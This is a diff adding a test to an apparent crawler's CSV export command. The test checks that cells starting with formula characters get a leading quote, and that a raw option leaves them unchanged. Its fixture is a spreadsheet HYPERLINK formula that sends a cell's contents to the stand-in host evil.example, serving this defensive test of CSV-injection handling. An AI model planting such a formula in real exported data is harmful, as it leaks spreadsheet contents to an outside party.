@@ -355,6 +355,37 @@ def test_empty_csv_has_the_header_only(output_dir: Path, tmp_path: Path) -> None
     assert out.read_bytes() == (",".join(COLUMNS) + "\r\n").encode()
 
 
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_csv_cells_that_spreadsheets_would_run_as_formulas_get_a_leading_quote(
+    tmp_path: Path,
+) -> None:
+    # A crawled title reached the CSV as a live formula (issue 19 item 5); --csv-raw keeps it.
+    hostile = make_record("f", title=FORMULA, summary="-1 dead", authors=["@handle"],
+                          text="\tindented", title_raw="+plus", published_raw="\rx")
+    write_file(tmp_path / "output/2024/05/01/records-run1.jsonl", [A, hostile])
+
+    def exported(*options: str) -> dict[str, str]:
+        table = tmp_path / "records.csv"
+        run = run_cli("export", "output", "--format", "csv", "-o", str(table), *options,
+                      cwd=tmp_path)
+        assert run.code == 0, run.stderr
+        with table.open(encoding="utf-8", newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        assert rows[0]["title"] == A.title  # plain text untouched
+        return rows[1]
+
+    defused = exported()
+    assert (defused["title"], defused["summary"], defused["authors"]) == (
+        "'" + FORMULA, "'-1 dead", "'@handle")
+    assert (defused["text"], defused["title_raw"], defused["published_raw"]) == (
+        "'\tindented", "'+plus", "'\rx")
+    assert defused["revision"] == "1"  # numbers are data, never quoted
+    raw = exported("--csv-raw")
+    assert (raw["title"], raw["summary"], raw["text"]) == (FORMULA, "-1 dead", "\tindented")
+
+
 def test_jsonl_round_trip_keeps_nested_records(output_dir: Path, tmp_path: Path) -> None:
     out = tmp_path / "export.jsonl"
     assert write_jsonl(iter_records(output_dir), out) == 4
